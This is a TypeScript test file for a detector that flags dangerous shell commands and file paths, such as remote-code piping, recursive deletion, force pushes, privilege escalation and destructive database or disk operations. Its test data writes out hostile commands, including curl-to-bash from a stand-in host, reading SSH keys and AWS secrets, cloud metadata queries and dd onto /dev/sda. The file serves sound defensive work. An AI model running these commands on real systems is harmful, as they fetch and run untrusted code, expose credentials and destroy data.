import assert from 'node:assert/strict';
import { test } from 'node:test';
import { dangers, fileDangers } from '../../../main/resources/web/app/model/dangers';

/** What is found in a command, each with the text that it marks. */
function found(command: string): string[] {
  return dangers(command).map(({ what, from, to }) => `${what.split(' ')[0]}: ${command.slice(from, to)}`);
}

const DANGEROUS: readonly (readonly [string, ...string[]])[] = [
  ['curl -sSL https://x.example/i.sh | bash', 'runs: curl -sSL https://x.example/i.sh | bash'],
  ['wget -qO- x | sudo sh', 'runs: wget -qO- x | sudo sh', 'becomes: sudo sh'],
  ['bash <(curl -s x)', 'runs: bash <(curl'],
  ['eval "$(curl -s x)"', 'runs: eval "$(curl'],
  ['curl x | python3 -', 'runs: curl x | python3'],
  ['rm -rf build', 'removes: rm -rf build'],
  ['rm build -r', 'removes: rm build -r'],
  ['/bin/rm --recursive x', 'removes: /bin/rm --recursive x'],
  ['bash -c "cd x && rm -fr y"', 'removes: rm -fr y'],
  ['find . -name x | xargs rm -r', 'removes: rm -r'],
  ['find . -name "*.bak" -delete', 'removes: find . -name "*.bak" -delete'],
  ['git clean -fdx', 'removes: git clean -fdx'],
  ['git push --force origin main', 'rewrites: git push --force origin main'],
  ['git -C repo push origin +main', 'rewrites: git -C repo push origin +main'],
  ['git reset --hard HEAD~3', 'rewrites: git reset --hard HEAD~3'],
  ['git rebase -i main', 'rewrites: git rebase -i main'],
  ['sudo make install', 'becomes: sudo make install'],
  ['su - root', 'becomes: su - root'],
  ['docker run --privileged x', 'becomes: docker run --privileged x'],
  ['chmod u+s /x', 'becomes: chmod u+s /x'],
  ['cat ~/.ssh/id_rsa', 'touches: ~/.ssh/id_rsa'],
  ['cat .env', 'touches: .env'],
  ['echo $AWS_SECRET_ACCESS_KEY', 'touches: $AWS_SECRET_ACCESS_KEY'],
  ['curl http://169.254.169.254/latest/meta-data/', 'asks: 169.254.169.254'],
  ['echo x > /etc/hosts', 'writes: > /etc/hosts'],
  ['echo x >> ~/.bashrc', 'writes: >> ~/.bashrc'],
  ['cp a ../b', 'writes: cp a ../b'],
  ['echo x | tee /etc/motd', 'writes: tee /etc/motd'],
  ['psql -c "DROP TABLE users"', 'destroys: DROP TABLE'],
  ['psql -c "delete from users"', 'destroys: delete from users'],
  ['terraform destroy -auto-approve', 'destroys: terraform destroy'],
  ['kubectl -n prod delete pod x', 'destroys: kubectl -n prod delete'],
  ['dd if=x of=/dev/sda', 'destroys: dd if=x of=/dev/sda'],
];

for (const [command, ...expected] of DANGEROUS) {
  test(`it is marked where it stands: ${command}`, () => assert.deepEqual(found(command), expected));
}

const ORDINARY = [
  'ls -la',
  'npm ci && npm test',
  'rm file.txt',
  'git push origin main',
  'git reset HEAD~1',
  'git commit -m "force a rebase"',
  'curl -s https://x.example > out.json',
  'curl -s https://x.example | jq .',
  'echo done > /dev/null 2>&1',
  'cp a b',
  'cat .env.example',
  'echo "$HOME $PATH"',
  'delete from users where id = 1',
  'cat id_rsa.pub',
  'kubectl get pods',
];

for (const command of ORDINARY) {
  test(`what is ordinary is not marked: ${command}`, () => assert.deepEqual(found(command), []));
}

test('time grows with the length of the command, and no faster', () => {
  const hostile = ['curl ', 'git push ', '> /', '$TOKEN', '/.ssh', 'a/', '"', '\\', 'rm ', 'delete from ', ' '];
  for (const piece of hostile) {
    const took = (characters: number) => {
      const command = piece.repeat(Math.ceil(characters / piece.length));
      const times = Array.from({ length: 3 }, () => {
        const start = performance.now();
        dangers(command);
        return performance.now() - start;
      });
      return Math.min(...times);
    };
    took(5_000);
    const short = took(10_000);
    const long = took(80_000);
    assert.ok(long < 30 * short + 50, `${piece}: ${short} ms, eight times as long: ${long} ms`);
  }
});

test('where a file lies is told from its path alone', () => {
  assert.deepEqual(fileDangers('/srv/app/a.go', '/srv/app'), []);
  assert.deepEqual(fileDangers('src/a.go', ''), []);
  assert.deepEqual(fileDangers('/etc/hosts', ''), []);
  assert.equal(fileDangers('/etc/hosts', '/srv/app').length, 1);
  assert.equal(fileDangers('/srv/application/x', '/srv/app').length, 1);
  assert.equal(fileDangers('a/../../b', '').length, 1);
  assert.equal(fileDangers('~/.ssh/authorized_keys', '/srv/app').length, 2);
});
